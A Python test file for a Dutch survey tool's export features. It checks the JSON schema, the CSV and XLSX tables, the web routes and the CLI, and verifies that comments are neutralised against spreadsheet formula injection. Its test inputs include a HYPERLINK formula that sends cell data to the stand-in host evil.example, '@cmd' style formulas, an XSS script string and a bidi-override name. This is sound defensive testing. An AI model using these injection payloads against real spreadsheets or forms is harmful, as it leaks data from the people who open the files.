"""Exports: the JSON backup contract, CSV and XLSX tables with neutralised formulas, the CLI.

The privacy rules of the exports (minimum group size, nothing traceable) and the Dutch Excel
layout are tested in tests/results/test_exports_privacy.py.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from quickscan import export_schema
from quickscan.extensions import db
from quickscan.services import exports
from quickscan.services.results import score
from tests.factories import INJECTIONS

ROUND_KEYS = {"id", "name", "municipality", "status", "banks"}
DEPARTMENT_KEYS = {"id", "name", "respondents_started", "respondents_submitted", "hidden",
                   "banks"}
THEME_KEYS = {"id", "score", "target", "gap", "importance", "priority", "answered",
              "dont_know", "not_applicable", "flags"}
PRIORITY_KEYS = {"rank", "department", "bank", "theme", "score", "target", "gap",
                 "importance", "priority", "action"}
RESPONSE_KEYS = {"id", "department", "started_on", "submitted_on", "answers", "importance",
                 "comments"}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def check_schema(data: dict) -> None:
    """Assert the documented quickscan-export/2 shape (extra fields are allowed)."""
    assert data["schema"] == "quickscan-export/2"
    assert data["contains"] == "response-level data"
    assert ROUND_KEYS <= set(data["round"])
    for bank in data["round"]["banks"]:
        assert {"id", "version", "sha256"} <= set(bank) and len(bank["sha256"]) == 64
    for department in data["departments"]:
        assert DEPARTMENT_KEYS <= set(department)
        for bank in department["banks"]:
            assert {"id", "score", "target", "gap", "themes"} <= set(bank)
            for theme in bank["themes"]:
                assert THEME_KEYS <= set(theme)
                assert theme["score"] is None or isinstance(theme["score"], float)
                assert isinstance(theme["flags"], list)
    for priority in data["priorities"]:
        assert PRIORITY_KEYS <= set(priority)
    for response in data["responses"]:
        assert RESPONSE_KEYS <= set(response)
        for answer in response["answers"]:
            assert set(answer) == {"question", "value"}
            value = answer["value"]
            assert value in ("dont_know", "not_applicable") or (
                isinstance(value, int) and 0 <= value <= 4)
        for rating in response["importance"]:
            assert "/" in rating["theme"] and 1 <= rating["value"] <= 5


def test_json_matches_schema_and_engine(app, built_round) -> None:
    round_ = built_round.round
    data = json.loads(exports.to_json(round_))
    check_schema(data)
    result = score(round_, min_group_size=round_.min_group_size)
    assert [d["name"] for d in data["departments"]] == [d.name for d in result.departments]
    for exported, department in zip(data["departments"], result.departments):
        assert exported["respondents_submitted"] == department.respondents_submitted
        assert exported["respondents_started"] == department.respondents_started
        for bank_json, bank in zip(exported["banks"], department.banks):
            assert bank_json["score"] == bank.score  # unrounded
            for theme_json, theme in zip(bank_json["themes"], bank.themes):
                assert theme_json["score"] == theme.score
                assert theme_json["priority"] == theme.priority
                assert theme_json["importance"] == theme.importance
                assert theme_json["flags"] == list(theme.flags)
    assert [p["priority"] for p in data["priorities"]] == [p.priority for p in result.priorities]
    assert [p["rank"] for p in data["priorities"]] == list(range(1, len(result.priorities) + 1))
    submitted = sum(len(t) for t in built_round.submitted_tokens.values())
    drafts = sum(len(t) for t in built_round.draft_tokens.values())
    assert len(data["responses"]) == submitted
    assert all(r["submitted_on"] for r in data["responses"])
    assert len(data["draft_responses"]) == drafts
    texts = {c["text"] for r in data["responses"] for c in r["comments"]}
    assert set(INJECTIONS) <= texts  # JSON carries the raw text; escaping is the reader's job
    assert data["round"]["banks"][0]["content"]["id"] == data["round"]["banks"][0]["id"]
    assert all(d["bank_ids"] for d in data["departments"])


def test_json_nulls_where_nothing_is_scored(app) -> None:
    from tests.factories import build_round

    built = build_round([("Leeg", ["bestuur"])], respondents=0, drafts=1)
    built.round.min_group_size = 1  # k = 1: nothing hidden, a department without figures
    db.session.commit()
    data = json.loads(exports.to_json(built.round))
    theme = data["departments"][0]["banks"][0]["themes"][0]
    assert theme["score"] is None and theme["gap"] is None and theme["priority"] is None
    assert data["responses"] == [] and data["priorities"] == []


def read_csv(data: bytes) -> list[list[str]]:
    """Read a CSV export as Dutch Excel does: BOM, ``;``-separated, every field quoted."""
    assert data.startswith("\ufeff".encode())
    text = data.decode("utf-8-sig")
    for line in text.split("\r\n")[:2]:
        assert line.startswith('"') and line.endswith('"'), line  # every field quoted
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def number(cell: str) -> float:
    """A CSV number with a decimal comma."""
    assert "." not in cell, cell
    return float(cell.replace(",", "."))


def test_csv_tables_agree_with_the_engine_and_neutralise_formulas(app, built_round) -> None:
    round_ = built_round.round
    result = score(round_, min_group_size=round_.min_group_size)
    labels = exports.export_labels()
    rows = read_csv(exports.to_csv(round_, "scores"))
    header = rows[0]
    scored = {(r[0], r[1], r[3]): r for r in rows[1:]}
    for department in result.departments:
        for theme in department.themes():
            row = scored[(department.name, theme.bank_id, theme.theme_id)]
            value = row[header.index(labels.headers["score"])]
            # CSV scores have one decimal (as the pages show them); JSON keeps full precision.
            assert (value == "" and theme.score is None) or number(value) == float(
                f"{theme.score:.1f}")
    priorities = read_csv(exports.to_csv(round_, "priorities"))
    assert len(priorities) == len(result.priorities) + 1
    cells = [cell for row in read_csv(exports.to_csv(round_, "comments")) for cell in row]
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS), cell
    assert "'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"klik\")" in cells
    assert "'@cmd" in cells and "'-2+3" in cells and "'\t=1+1" in cells
    assert "<script>alert('xss')</script>" in cells  # plain text in CSV


def test_csv_neutralises_formulas_after_every_separator(app) -> None:
    """``zie beleid;=HYPERLINK(…)`` must not become a live formula however the line is split:
    not by a CSV reader, and not by a reader that splits on ``;`` and line breaks, ignoring
    the quotes."""
    from tests.factories import build_round

    tricky = ['zie beleid;=HYPERLINK("http://evil.example","klik")', "a;+1;-2;@x",
              "regel\n=1+1", "regel\r\n@SUM(A1)", "x;\t=1"]
    built = build_round([("Wonen", ["bestuur"])], respondents=3, drafts=0,
                        comments=tricky, name="Ronde;=1+1")
    data = exports.to_csv(built.round, "comments")
    cells = [cell for row in read_csv(data) for cell in row]
    assert "zie beleid;'=HYPERLINK(\"http://evil.example\",\"klik\")" in cells
    assert "a;'+1;'-2;'@x" in cells and "regel\n'=1+1" in cells
    naive = [piece.strip('"') for line in data.decode("utf-8-sig").splitlines()
             for piece in line.split(";")]
    assert naive and not [p for p in naive if p.startswith(FORMULA_STARTS)]


def test_csv_numbers_use_a_decimal_comma() -> None:
    assert exports.csv_cell(41.25) == "41,25"
    assert exports.csv_cell(75.0) == "75,0"
    assert exports.csv_cell(1e-17) == "0,00000000000000001"
    assert exports.csv_cell(7) == "7" and exports.csv_cell(None) == ""
    assert exports.csv_cell("-2+3") == "'-2+3"
    assert exports.csv_cell(41.26, 1) == "41,3" and exports.csv_cell(75.0, 1) == "75,0"
    assert exports.csv_cell(None, 1) == "" and exports.csv_cell(4, 1) == "4"


def test_xlsx_has_no_formulas(app, built_round) -> None:
    workbook = load_workbook(io.BytesIO(exports.to_xlsx(built_round.round)))
    assert {"ronde", "scores", "prioriteiten", "antwoorden", "belang"} <= set(
        workbook.sheetnames)
    values = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), cell.value
                    values.append(cell.value)
    assert "'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"klik\")" in values
    result = score(built_round.round, min_group_size=built_round.round.min_group_size)
    sheet = workbook["prioriteiten"]
    header = [c.value for c in sheet[1]]
    first = [c.value for c in sheet[2]]
    # Spreadsheets keep 15 significant digits.
    priority = header.index(exports.export_labels().headers["priority"])
    assert first[priority] == pytest.approx(result.priorities[0].priority, rel=1e-13)


def test_export_routes(coordinator_client, built_round) -> None:
    rid = built_round.round.id
    response = coordinator_client.get(f"/rondes/{rid}/export.json")
    assert response.status_code == 200 and response.mimetype == "application/json"
    check_schema(response.get_json())
    response = coordinator_client.get(f"/rondes/{rid}/export.csv?tabel=prioriteiten")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "prioriteiten.csv" in response.headers["Content-Disposition"]
    response = coordinator_client.get(f"/rondes/{rid}/export.xlsx")
    assert response.status_code == 200 and response.data[:2] == b"PK"
    assert coordinator_client.get(f"/rondes/{rid}/export.csv?tabel=geheim").status_code == 400
    assert coordinator_client.get(f"/rondes/{rid}/export.pdfx").status_code == 404
    assert coordinator_client.get("/rondes/999999/export.json").status_code == 404


def test_cli_report_and_export(app, built_round, tmp_path) -> None:
    runner = app.test_cli_runner()
    rid = str(built_round.round.id)
    out = tmp_path / "ronde.pdf"
    result = runner.invoke(args=["report", rid, "--out", str(out), "--quiet"])
    assert result.exit_code == 0, result.output
    assert out.read_bytes().startswith(b"%PDF")
    department = built_round.departments[0].name
    out = tmp_path / "afdeling.pdf"
    result = runner.invoke(args=["report", rid, "--department", department, "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert out.exists()
    result = runner.invoke(args=["report", rid, "--department", "Bestaat niet", "--out",
                                 str(tmp_path / "x.pdf")])
    assert result.exit_code == 1 and "not found" in result.output
    for fmt in ("json", "csv", "xlsx"):
        target = tmp_path / f"export.{fmt}"
        result = runner.invoke(args=["export", rid, "--format", fmt, "--out", str(target)])
        assert result.exit_code == 0, result.output
        assert target.stat().st_size > 100
    check_schema(json.loads((tmp_path / "export.json").read_text(encoding="utf-8")))
    result = runner.invoke(args=["export", "999", "--format", "json", "--out",
                                 str(tmp_path / "y.json")])
    assert result.exit_code == 1


# --------------------------------------------------------------------------- schema and docs

DOC = Path(__file__).resolve().parents[2] / "docs" / "export.md"
ROW_RE = re.compile(r"^\| `([a-z0-9_.\[\]]+)` \| ((?:[^|\\]|\\.)+) \|")


def _type_of(node: dict[str, Any], defs: dict[str, Any]) -> str:
    """A JSON Schema node as the doc's type column writes it."""
    while "$ref" in node:
        node = defs[node["$ref"].rsplit("/", 1)[-1]]
    if "anyOf" in node:
        kinds = [_type_of(n, defs) for n in node["anyOf"]]
        return " or ".join(kinds)
    if "const" in node or "enum" in node:
        return " or ".join(f'"{v}"' for v in node.get("enum", [node.get("const")]))
    kind = node.get("type")
    if kind in ("integer", "number"):
        low, high = node.get("minimum"), node.get("maximum")
        if high == export_schema.MAX_ID:
            return f"{kind} ≥ {low}"
        return f"{kind} {round(low)}–{round(high)}"
    if kind == "string":
        if "format" in node:
            return node["format"]
        if "pattern" in node:
            return f"`{node['pattern']}`"
        return f"text {node.get('minLength', 0)}–{node['maxLength']}"
    if kind == "array" and "$ref" not in node["items"]:
        return f"array of {_type_of(node['items'], defs)}"
    if kind == "object" and node.get("patternProperties"):
        ((pattern, value),) = node["patternProperties"].items()
        return f"object: `{pattern}` → {_type_of(value, defs)}"
    if kind == "object" and isinstance(node.get("additionalProperties"), dict):
        return f"object: text → {_type_of(node['additionalProperties'], defs)}"
    if kind == "object" and node.get("additionalProperties") is True:
        return "object (free form)"
    return str(kind)


def _schema_rows() -> dict[str, str]:
    """Every field path of the model's JSON Schema with its type; ``draft_responses[]`` has
    the shape of ``responses[]`` and is not repeated."""
    schema = export_schema.ExportDocument.model_json_schema()
    defs = schema["$defs"]
    rows: dict[str, str] = {}

    def walk(node: dict[str, Any], path: str) -> None:
        while "$ref" in node:
            node = defs[node["$ref"].rsplit("/", 1)[-1]]
        for option in node.get("anyOf", []):
            if option.get("type") != "null":
                walk(option, path)
        if node.get("type") == "array":
            if path == "draft_responses":
                assert node["items"] == schema["properties"]["responses"]["items"]
                return
            walk(node["items"], path + "[]")
        for key, value in node.get("properties", {}).items():
            child = f"{path}.{key}" if path else key
            rows[child] = _type_of(value, defs)
            walk(value, child)

    walk(schema, "")
    return rows


def _doc_rows() -> dict[str, str]:
    rows = {}
    for line in DOC.read_text(encoding="utf-8").splitlines():
        match = ROW_RE.match(line)
        if match:
            assert match.group(1) not in rows, f"{match.group(1)} documented twice"
            rows[match.group(1)] = match.group(2).strip().replace("\\|", "|")
    return rows


def test_documented_format_is_the_model() -> None:
    """Every field of docs/export.md's field table is in the model's JSON Schema with the
    documented type, and every field of the schema is documented."""
    documented, schema = _doc_rows(), _schema_rows()
    assert sorted(set(documented) - set(schema)) == []  # documented but not in the model
    assert sorted(set(schema) - set(documented)) == []  # in the model but not documented
    assert {path: documented[path] for path in schema} == schema


def test_model_refuses_unknown_fields_everywhere_but_the_free_form_objects() -> None:
    schema = export_schema.ExportDocument.model_json_schema()
    for name, definition in schema["$defs"].items():
        assert definition.get("additionalProperties") is False, name
    free = {path for path, kind in _schema_rows().items() if "free form" in kind}
    assert free == {"round.banks[].content", "perspective.residents_bank.content"}


def test_limits_are_the_web_forms_limits() -> None:
    from quickscan.models import COMMENT_MAX_LENGTH
    from quickscan.services import rounds

    assert export_schema.NAME_MAX_LENGTH == rounds.NAME_MAX_LENGTH
    assert export_schema.DESCRIPTION_MAX_LENGTH == rounds.DESCRIPTION_MAX_LENGTH
    assert export_schema.COMMENT_MAX_LENGTH == COMMENT_MAX_LENGTH


def test_schema_module_is_pure() -> None:
    source = Path(export_schema.__file__).read_text(encoding="utf-8")
    assert not re.search(r"^\s*(from|import) (flask|sqlalchemy|quickscan)", source, re.MULTILINE)


def test_export_validates_against_the_model(app, built_round) -> None:
    data = json.loads(exports.to_json(built_round.round))
    document = export_schema.ExportDocument.model_validate(data)
    assert document.dump() == data


def test_export_of_older_data_never_fails_and_the_import_refuses_it(app) -> None:
    """A name stored before names refused bidi overrides still exports; the import, which
    validates names as the web forms do today, refuses it with its path."""
    from quickscan.services.importer import ImportFileError, import_round
    from tests.factories import build_round

    built = build_round([("Wonen\u202egnineeg", ["bestuur"])], respondents=1, drafts=0)
    data = json.loads(exports.to_json(built.round))
    assert data["departments"][0]["name"] == "Wonen\u202egnineeg"
    db.session.delete(built.round)
    db.session.commit()
    with pytest.raises(ImportFileError, match=r"departments\[0\]\.name: contains a control"):
        import_round(data, "secret")
